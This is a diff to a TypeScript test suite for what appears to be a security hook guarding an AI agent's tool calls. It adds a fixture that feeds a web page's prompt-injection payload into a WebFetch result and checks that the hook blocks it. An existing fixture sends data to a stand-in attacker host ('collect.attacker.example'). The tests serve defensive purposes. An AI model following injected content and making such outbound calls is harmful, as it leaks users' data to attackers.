@@ -34,6 +34,8 @@ async function host(ws: string, statePath?: string): Promise<Host> {
 const MAX = STATE_LIMITS.MAX_SESSIONS;
 const mcpInjection = (ws: string, session = SID) =>
   post(ws, "mcp__notes__get_note", { id: "x" }, [{ type: "text", text: INJECTION }], session);
+const webInjection = (ws: string) =>
+  post(ws, "WebFetch", { url: "https://blog.example.net/p", prompt: "p" }, { code: 200, result: INJECTION });
 const exfil = (ws: string, session = SID) =>
   pre(ws, "WebFetch", { url: "https://collect.attacker.example/u?d=x", prompt: "p" }, session);
 const start = (ws: string, session: string) => ({
@@ -74,7 +76,7 @@ describe("the bound never forgets a poisoned session", () => {
     const ws = workspace();
     const path = join(tempDir(), "state.json");
     const first = await host(ws, path);
-    await first.send(mcpInjection(ws));
+    expect(decisionOf(await first.send(webInjection(ws)))).toBe("block");
     const flood = emptyState();
     for (let i = 0; i < 10_000; i++)
       flood.sessions[`flood-${i}`] = session({
